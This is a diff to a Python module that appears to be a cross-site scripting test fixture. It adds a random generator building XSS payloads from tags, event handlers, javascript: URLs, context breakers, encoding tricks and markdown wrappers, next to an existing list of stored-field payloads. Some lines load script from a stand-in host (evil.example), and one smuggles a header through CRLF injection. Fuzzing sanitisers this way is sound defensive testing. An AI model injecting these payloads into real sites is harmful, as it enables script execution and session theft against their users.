@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import html
+import random
+
 PAYLOADS: tuple[str, ...] = (
     "<script>alert(1)</script>",
     "<ScRiPt src=//evil.example></sCrIpT>",
@@ -99,3 +102,86 @@ PAYLOADS: tuple[str, ...] = (
     "a\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
 )
 """Put into every stored field, one after the other."""
+
+_TAGS = (
+    "img",
+    "svg",
+    "iframe",
+    "details",
+    "input",
+    "video",
+    "body",
+    "a",
+    "math",
+    "object",
+    "style",
+    "x-y",
+    "p",
+    "form",
+)
+_RUNS = (
+    "alert(1)",
+    "alert`1`",
+    "parent.alert(1)",
+    "import('//evil.example/x.js')",
+    "&#97;lert(1)",
+    "top['al'+'ert'](1)",
+)
+_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "oNbEgIn", "onpointerenter")
+_LINKS = ("href", "src", "xlink:href", "action", "formaction", "data", "srcdoc", "poster", "background", "srcset")
+_TARGETS = (
+    "javascript:{}",
+    "java\nscript:{}",
+    "&Tab;javascript:{}",
+    "data:text/html,<script>{}</script>",
+    "//evil.example/?{}",
+)
+_BLANKS = (" ", "/", "\t", "\n", "\x0c", "\r", " / ", "\x00", "\u2003")
+_QUOTES = ('"', "'", "", "`", "&quot;", "&#39;")
+_BEFORE = (
+    "",
+    "",
+    '">',
+    "'>",
+    "</script>",
+    "</textarea>",
+    "</title>",
+    "-->",
+    "]]>",
+    "</pre></code>",
+    "\n\n",
+    "> ",
+    "    ",
+    "| ",
+)
+_BEHIND = ("", "", "<!--", "//", "\n```", "</", "\\", '"', "&", "`", " |", "\ufffe")
+_WRAPPED = (
+    "{}",
+    "{}",
+    "`{}`",
+    "```{}\n{}\n```",
+    "[{}](<{}>)",
+    "[x]({} '{}')",
+    "![{}]({})",
+    "**{}**",
+    "<!-- {} -->",
+    "<{}>",
+)
+
+
+def mixed(chance: random.Random) -> str:
+    """A text of the kind above, put together by chance."""
+    blank, quote, run = chance.choice(_BLANKS), chance.choice(_QUOTES), chance.choice(_RUNS)
+    if chance.randrange(2):
+        given = f"{chance.choice(_EVENTS)}={quote}{run}{quote} autofocus tabindex=1 src=x"
+    else:
+        given = f"{chance.choice(_LINKS)}={quote}{chance.choice(_TARGETS).format(run)}{quote}"
+    tag = chance.choice(_TAGS)
+    element = chance.choice(
+        (f"<{tag}{blank}{given}>x", f"<{tag}{blank}{given}", f"<{tag.upper()}{blank}{given}></{tag}>")
+    )
+    element = chance.choice(
+        (element, element, f"<script>{run}</script>", f"{quote} {given} x={quote}", html.escape(element))
+    )
+    whole = chance.choice(_BEFORE) + element + chance.choice(_BEHIND)
+    return chance.choice(_WRAPPED).replace("{}", whole)
